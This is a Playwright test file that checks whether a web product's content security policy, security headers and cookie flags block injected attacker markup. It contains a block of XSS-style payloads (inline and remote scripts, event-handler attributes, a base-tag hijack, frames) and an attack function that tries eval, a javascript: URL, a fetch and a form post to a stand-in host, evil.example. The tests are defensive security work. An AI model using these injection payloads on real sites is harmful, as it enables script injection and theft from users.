import { randomUUID } from 'node:crypto'
import { request, type IncomingHttpHeaders } from 'node:http'
import { expect, test, type BrowserContext, type Page, type Response as Answer } from '@playwright/test'
import { LIVE_ADDRESS } from '#contract/live.ts'
import { browserOf, cookiesOf, requestsOf, type Visiting } from '../people.ts'
import { startProduct } from '../server.ts'
import { ownProduct } from '../own-product.ts'
import { PASSWORD } from '../steps/steps.ts'
import { openPage } from '../steps/open-page.ts'

/** Tests what the browser itself blocks, by the policy, headers and cookies of each kind of response. */

const EVIL = 'https://evil.example'

const product = ownProduct('with-history')
let url: string
test.beforeAll(() => {
  url = product().url
})

declare global {
  interface Window {
    /** Parts of the attack that ran. */
    ran: string[]
    /** Directive and address of everything that the policy blocked. */
    refused: string[]
  }
}

/** Markup of an attacker, inserted after the policy was made, so that no nonce or hash fits it. */
const INJECTED = `<script>window.ran.push('inline script')</script>
<script src="${EVIL}/script.js"></script>
<img alt="" src="/favicon.ico?" onload="window.ran.push('onload')" onerror="window.ran.push('onerror')">
<svg onload="window.ran.push('svg')"></svg>
<img alt="" src="${EVIL}/image.png">
<iframe src="${EVIL}/frame"></iframe>
<object data="${EVIL}/object"></object>
<base href="${EVIL}/">
<style>body { --ran: yes }</style>
<link rel="stylesheet" href="${EVIL}/style.css">
`

/** Every directive that the attack breaks, and the cause: inline script, or the attacker's site. */
const REFUSED = [
  'base-uri evil.example',
  'connect-src evil.example',
  'form-action evil.example',
  'frame-src evil.example',
  'img-src evil.example',
  'object-src evil.example',
  'script-src eval',
  'script-src-attr inline',
  'script-src-elem evil.example',
  'script-src-elem inline',
  'style-src-elem evil.example',
  'style-src-elem inline',
]

/** Pages of each kind, with their reader and the source that may allow their scripts. */
const PAGES: readonly (readonly [kind: string, path: string, who: Visiting, by: RegExp])[] = [
  ['a static page', '/main/home', 'guest', /script-src ('none'|'sha256-)/],
  ['a page of long copy', '/help/transaction', 'guest', /script-src ('none'|'sha256-)/],
  ['a hydrated page', '/tool/fund-selector', 'guest', /script-src ('nonce-|'sha256-|'none')/],
  ['a log-in', '/account-login', 'guest', /script-src 'nonce-/],
  ['an own page', '/investor/trade/buy?fundCode=990001', 'investor', /script-src 'nonce-/],
  ['a page of staff', '/operations/home', 'operator', /script-src ('nonce-|'sha256-|'none')/],
  ['the sandbox', '/sandbox', 'guest', /script-src 'nonce-/],
  ['a page that is not there', '/nope', 'guest', /script-src/],
  ['the page of the API', '/fe/docs', 'guest', /script-src 'none'/],
]

test.describe('the policy of pages', () => {
  for (const [kind, path, who, by] of PAGES) {
    test(`lets nothing of a stranger's run in ${kind}`, async ({ browser }) => {
      const context = await browserOf(browser, url, who)
      const page = await context.newPage()
      const called = await standForEvil(context)
      const answer = await openInjected(page, path)
      expect(answer.headers()['content-security-policy']).toMatch(by)
      expectPageHeaders(answer, who)
      // The attack is repeated, because hydration in the meantime removes everything that was inserted.
      await expect
        .poll(async () => {
          await page.evaluate(attack, EVIL)
          return refusedIn(page)
        })
        .toEqual(REFUSED)
      expect(await page.evaluate(() => window.ran)).toEqual([])
      expect(called).toEqual([])
      expect(page.url()).toBe(url + path)
      expect(await page.evaluate(() => document.cookie)).not.toMatch(/sid|device/)
      await context.close()
    })
  }

  test('the same attack succeeds where there is no policy: the test can see it', async ({ page }) => {
    const called = await standForEvil(page.context())
    await watch(page)
    await page.route(`${url}/open`, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<!doctype html><body>${INJECTED}` }),
    )
    await page.goto(`${url}/open`)
    await page.evaluate(attack, EVIL)
    await expect
      .poll(() => page.evaluate(() => window.ran))
      .toEqual(expect.arrayContaining(['inline script', 'script.js', 'svg', 'scheme', 'eval']))
    for (const path of ['/script.js', '/image.png', '/frame', '/style.css', '/call'])
      expect(called).toContain(EVIL + path)
    expect(await page.evaluate(() => window.refused)).toEqual([])
  })

  test('no page stands in a frame, of another site or of our own', async ({ page }) => {
    const frames = [...PAGES.map(([, path]) => path), '/fe/rest/fund/find-funds', '/control']
    const body = `<!doctype html>${frames.map((path) => `<iframe src="${url}${path}"></iframe>`).join('')}`
    await page.route('**/framing', (route) => route.fulfill({ contentType: 'text/html', body }))
    await page.route('**/control', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>control</title>' }),
    )
    await openPage(page, `${url}/framing`)
    const shown = page.frames().filter((frame) => frame !== page.mainFrame() && frame.url().startsWith(url))
    expect(shown.map((frame) => frame.url())).toEqual([`${url}/control`])
  })
})

/** Runs in the page and tries what a script of an attacker would try next. */
function attack(evil: string): void {
  // A timer of the page calls it, so that the page's policy applies and not the test's.
  setTimeout(() => {
    try {
      // oxlint-disable-next-line no-eval -- that it is refused is what is tested
      ;(0, eval)("window.ran.push('eval')")
    } catch {
      // The policy refuses it.
    }
  })
  void fetch(`${evil}/call`, { mode: 'no-cors' }).catch(() => {})
  const scheme = document.createElement('a')
  scheme.setAttribute('href', "javascript:window.ran.push('scheme')")
  const form = document.createElement('form')
  Object.assign(form, { action: `${evil}/form`, method: 'post' })
  document.body.append(scheme, form)
  scheme.click()
  // If nothing blocks it, the form would lead the test to another page.
  if (window.refused.length > 0) form.submit()
}

/** Answers for the attacker's site and collects the called addresses. Its script reports that it ran. */
async function standForEvil(context: BrowserContext): Promise<string[]> {
  const called: string[] = []
  await context.route(`${EVIL}/**`, (route) => {
    called.push(route.request().url())
    const headers = { 'access-control-allow-origin': '*' }
    return route.fulfill({ headers, contentType: 'text/javascript', body: "window.ran.push('script.js')" })
  })
  return called
}

/** Returns what the policy has blocked so far, each once. */
async function refusedIn(page: Page): Promise<string[]> {
  const all = await page.evaluate(() => window.refused)
  const named = all.map((each) => each.replace(/https:\/\/(evil\.example).*$/, '$1'))
  // A base element that the framework has emptied is blocked again without a name.
  return [...new Set(named.filter((each) => !each.endsWith(' ')))].toSorted()
}

async function watch(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.ran = []
    window.refused = []
    document.addEventListener('securitypolicyviolation', (event) =>
      window.refused.push(`${event.effectiveDirective} ${event.blockedURI}`),
    )
  })
}

/** Opens the page as the server returns it, with its own headers, and the attacker's markup inside. */
async function openInjected(page: Page, path: string): Promise<Answer> {
  await watch(page)
  await page.route(url + path, async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace(/(<body[^>]*>)/, `$1${INJECTED.replaceAll('$', '$$$$')}`)
    await route.fulfill({ response, body })
  })
  const answer = await page.goto(url + path)
  return answer!
}

/** Expects the headers of every page, and the right header for caching. */
function expectPageHeaders(answer: Answer, who: Visiting): void {
  const headers = answer.headers()
  expect(headers).toMatchObject(EVERYWHERE)
  if (who !== 'guest') expect(headers['cache-control']).toBe('no-store')
  else expect(headers['cache-control'] ?? 'no-store').toMatch(/^(no-store|private, no-cache)$/)
}

const EVERYWHERE = {
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
  'permissions-policy': expect.stringContaining('geolocation=()'),
}

const DATA = "default-src 'none'; frame-ancestors 'none'"
const OWN = '/fe/rest/holding/find-holdings'

/** Responses that are not pages: path, reader, status, type, policy, and caching. */
const DATA_ANSWERS: readonly {
  readonly kind: string
  readonly path: string
  readonly who: Visiting
  readonly status: number
  readonly type: RegExp
  readonly cache: RegExp
  readonly policy?: RegExp
}[] = [
  { ...json('data for all', '/fe/rest/fund/find-funds'), who: 'guest', status: 200 },
  { ...json('data of one’s own', OWN), who: 'investor', status: 200 },
  { ...json('what a guest may not see', OWN), who: 'guest', status: 401 },
  { ...json('what another role may not see', OWN), who: 'operator', status: 403 },
  { ...json('an unknown call', '/fe/no-such'), who: 'guest', status: 404 },
  {
    ...{ kind: 'a file of one’s own', path: '/fe/rest/transaction/order/export-orders', who: 'investor' },
    ...{
      status: 200,
      type: /^text\/csv|spreadsheet|octet/,
      cache: /no-store/,
      policy: /^sandbox; default-src 'none'; frame-ancestors 'none'$/,
    },
  },
  {
    ...{ kind: 'a redirect', path: '/investor/holdings', who: 'guest', status: 302 },
    ...{ type: /^$/, cache: /^no-store$/ },
  },
  {
    ...{ kind: 'security.txt', path: '/.well-known/security.txt', who: 'guest', status: 200 },
    ...{ type: /^text\/plain; charset=utf-8$/, cache: /^public, max-age=3600$/ },
  },
  {
    ...{ kind: 'the worker', path: '/sw.js', who: 'guest', status: 200 },
    ...{
      type: /^text\/javascript/,
      cache: /^no-cache$/,
      policy: /^default-src 'none'; frame-ancestors 'none'; connect-src 'self'$/,
    },
  },
]

function json(kind: string, path: string) {
  return { kind, path, type: /^application\/json; charset=utf-8$/, cache: /^no-store$/ }
}

test.describe('the headers of what is no page', () => {
  for (const each of DATA_ANSWERS) {
    test(each.kind, async () => {
      const requests = await requestsOf(url, each.who)
      const answer = await requests.get(each.path)
      const headers = answer.headers()
      expect(answer.status()).toBe(each.status)
      expect(headers).toMatchObject(EVERYWHERE)
      expect(headers['content-type'] ?? '').toMatch(each.type)
      expect(headers['cache-control'] ?? '').toMatch(each.cache)
      expect(headers['content-security-policy']).toMatch(each.policy ?? new RegExp(`^${DATA}$`))
      expect(headers['access-control-allow-origin']).toBeUndefined()
      if (each.kind.startsWith('a file')) expect(headers['content-disposition']).toMatch(/^attachment;/)
      await requests.dispose()
    })
  }

  test('an asset of the build is kept for good, under the policy of data', async ({ page }) => {
    const assets: Answer[] = []
    page.on('response', (answer) => void (answer.url().includes('/assets/') && assets.push(answer)))
    await openPage(page, `${url}/account-login`)
    expect(assets.length).toBeGreaterThan(0)
    for (const asset of assets) {
      expect(asset.headers()).toMatchObject({ ...EVERYWHERE, 'content-security-policy': DATA })
      expect(asset.headers()['cache-control']).toBe('public, max-age=31536000, immutable')
    }
  })

  test('the error of an upload', async () => {
    const requests = await requestsOf(url, 'investor')
    const file = { name: 'a.jpg', mimeType: 'image/jpeg', buffer: Buffer.from('x') }
    const answer = await requests.post('/upload/push', { multipart: { file }, headers: { Origin: url } })
    expect(answer.status()).toBeGreaterThanOrEqual(400)
    expect(answer.headers()).toMatchObject({
      ...EVERYWHERE,
      'content-type': 'application/json; charset=utf-8',
      'cache-control': 'no-store',
      'content-security-policy': DATA,
    })
    await requests.dispose()
  })

  test('the stream of news', async () => {
    const cookie = (await cookiesOf(url, 'investor')).map(({ name, value }) => `${name}=${value}`).join('; ')
    const ended = new AbortController()
    const answer = await fetch(url + LIVE_ADDRESS, { headers: { cookie }, signal: ended.signal })
    const headers = Object.fromEntries(answer.headers)
    ended.abort()
    expect(headers).toMatchObject({
      ...EVERYWHERE,
      'content-type': 'text/event-stream; charset=utf-8',
      'cache-control': 'no-store, no-transform',
      'content-security-policy': DATA,
    })
  })

  test('data is run as no script, not even by a page of our own', async ({ page }) => {
    const faults: string[] = []
    const body = '<!doctype html><script src="/fe/rest/fund/find-funds"></script>'
    await page.route('**/sniffing', (route) => route.fulfill({ contentType: 'text/html', body }))
    page.on('console', (line) => faults.push(line.text()))
    await page.goto(`${url}/sniffing`)
    await expect.poll(() => faults.join(' ')).toContain('MIME type')
  })
})

test.describe('cookies', () => {
  test('those that let in are out of reach of scripts, and of other sites’ forms', async () => {
    const cookies = await cookiesOf(url, 'investor')
    expect(cookies.map(({ name }) => name).toSorted()).toEqual(['device', 'sid'])
    for (const each of cookies)
      expect(each).toMatchObject({ httpOnly: true, sameSite: 'Lax', path: '/', domain: '127.0.0.1' })
    expect(cookies.find(({ name }) => name === 'sid')!.expires).toBe(-1)
  })

  test('where we are reached by https they are Secure, bound to the host, and HSTS says so', async () => {
    const origin = 'https://fund.example'
    const product = await startProduct({ env: { PUBLIC_ORIGIN: origin, SANDBOX_HISTORY: '0' } })
    try {
      const { headers } = await logInTo(origin, product.url)
      const cookies = headers['set-cookie'] ?? []
      expect(cookies.map((each) => each.split('=')[0]!).toSorted()).toEqual(['__Host-device', '__Host-sid'])
      for (const each of cookies) {
        expect(each).toMatch(/; Path=\/; HttpOnly; Secure; SameSite=Lax/)
        expect(each).not.toMatch(/Domain/i)
      }
      const chat = await chatOf(origin, product.url)
      expect(chat.cookie).toMatch(/^__Host-chat=[\w-]{43}; Path=\/; HttpOnly; SameSite=Lax; .*Secure/)
      expect([await chat.isFoundBy('__Host-chat'), await chat.isFoundBy('chat')]).toEqual([true, false])
      expect(headers['strict-transport-security']).toBe('max-age=31536000; includeSubDomains')
      const file = await fetch(`${product.url}/.well-known/security.txt`)
      expect(await file.text()).toContain(`Canonical: ${origin}/.well-known/security.txt`)
    } finally {
      await product.stop()
    }
  })
})

/** Sends a request as it comes through a TLS proxy, with the site's host name, which `fetch` would not send. */
function send(
  origin: string,
  address: string,
  { type, body, cookie = '' }: { readonly type: string; readonly body: string; readonly cookie?: string },
): Promise<{ readonly headers: IncomingHttpHeaders; readonly text: string }> {
  const { host } = new URL(origin)
  const own = { host, origin, cookie, 'sec-fetch-site': 'same-origin', 'x-client-version': 'test' }
  return new Promise((done, reject) => {
    request(address, { method: 'POST', headers: { ...own, 'content-type': type } }, (answer) => {
      let text = ''
      answer.on('data', (part) => (text += part))
      answer.on('end', () => done({ headers: answer.headers, text }))
    })
      .on('error', reject)
      .end(body)
  })
}

const logInTo = (origin: string, url: string) =>
  send(origin, `${url}/account-login`, {
    type: 'application/x-www-form-urlencoded',
    body: String(new URLSearchParams({ username: 'demo-investor', password: PASSWORD })),
  })

/** Opens a guest's chat, which only their cookie gives access to. */
async function chatOf(origin: string, url: string) {
  const call = (name: string, input: object, cookie = '') =>
    send(origin, `${url}/fe/rest/service/${name}`, {
      ...{ type: 'application/json', body: JSON.stringify(input), cookie },
    })
  const said = await call('say-in-chat', { messageId: randomUUID(), text: 'hello' })
  const [cookie = ''] = said.headers['set-cookie'] ?? []
  const [, token] = /=([^;]+)/.exec(cookie) ?? []
  const found = async (name: string) =>
    JSON.parse((await call('get-chat', {}, `${name}=${token}`)).text).data.chat !== null
  return { cookie, isFoundBy: found }
}
